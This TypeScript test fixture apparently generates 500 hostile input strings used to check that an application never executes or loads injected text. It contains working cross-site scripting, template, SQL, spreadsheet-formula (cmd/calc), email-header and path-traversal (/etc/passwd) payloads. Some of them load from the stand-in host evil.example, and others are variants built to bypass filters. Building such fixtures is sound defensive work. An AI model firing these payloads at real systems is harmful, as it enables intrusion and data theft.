/** A text executed as script sets this on the window; tests check it. */
export const HIT = '__hit';
/** A request to this host means that a text was executed or loaded. */
export const FOREIGN_HOST = 'evil.example';

const hit = `window.${HIT}=1`;

/** One example of each way in which text can be executed. */
const seeds = [
  `<script>${hit}</script>`,
  `</script><script>${hit}</script>`,
  `</title></textarea><script>${hit}</script>`,
  `<script src=//${FOREIGN_HOST}/a.js></script>`,
  `<img src=x onerror=${hit}>`,
  `<img src=//${FOREIGN_HOST}/a.png>`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<iframe srcdoc="<script>parent.${HIT}=1</script>"></iframe>`,
  `<iframe src=javascript:parent.${HIT}=1></iframe>`,
  `<object data=javascript:${hit}>`,
  `<embed src=//${FOREIGN_HOST}/a.swf>`,
  `<base href=//${FOREIGN_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/">`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}/a.css>`,
  `<style>@import '//${FOREIGN_HOST}/a.css';</style>`,
  `<a href="javascript:${hit}" autofocus onfocus=${hit}>a</a>`,
  `<form action=//${FOREIGN_HOST}/><button autofocus>a</button></form>`,
  `<details open ontoggle=${hit}>`,
  `<body onload=${hit}>`,
  `<template><script>${hit}</script></template>`,
  `javascript:${hit}`,
  `data:text/html,<script>${hit}</script>`,
  `url(//${FOREIGN_HOST}/a.png)`,
  `expression(${hit})`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `<%= ${hit} %>`,
  `#{${hit}}`,
  `$t({{${hit}}}) {{code}} {0} %s %n`,
  `';${hit};//`,
  `"-${hit}-"`,
  `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
  `=HYPERLINK("http://${FOREIGN_HOST}/","a")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r\nBcc: someone@${FOREIGN_HOST}\r\nContent-Type: text/html\r\n\r\n<script>${hit}</script>`,
  `'; DROP TABLE account; --`,
  `' OR '1'='1`,
  `%' ESCAPE '\\' OR 1=1 --`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `file:///etc/passwd`,
  `constructor`,
  `__proto__`,
  `NaN`,
];

const shouted = (text: string) => text.replace(/[a-z]+(?=[\s>=])/gi, (word) => word.toUpperCase());
const entities = (text: string) => text.replace(/[<>"'&]/g, (c) => `&#${c.charCodeAt(0)};`);
const wide = (text: string) =>
  text.replace(/[<>"'=(){}/]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const inside = (text: string, what: string) => `${text.slice(0, 3)}${what}${text.slice(3)}`;

/** Variants of each example that bypass simple filters. */
const ways: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `"'>${seed}`,
  (seed) => `${shouted(seed)}\n${seed}`,
  (seed) => `&lt;${entities(seed)}`,
  (seed) => `＜${wide(seed)}`,
  (seed) => `%3C${encodeURIComponent(seed)}`,
  // Right-to-left override, and invisible characters.
  (seed) => `\u202e${inside(seed, '\u200b\u2066')}\ufeff`,
  (seed) => inside(seed, '\u0000'),
  (seed) => `${seed}\ud800\udc00\udfff${seed}`,
  (seed) => `${seed}${'\u0301'.repeat(30)}${'A'.repeat(3000)}`,
];

/** 500 fixed texts in fixed order. */
export const hostileTexts: readonly string[] = ways.flatMap((way) => seeds.map(way));
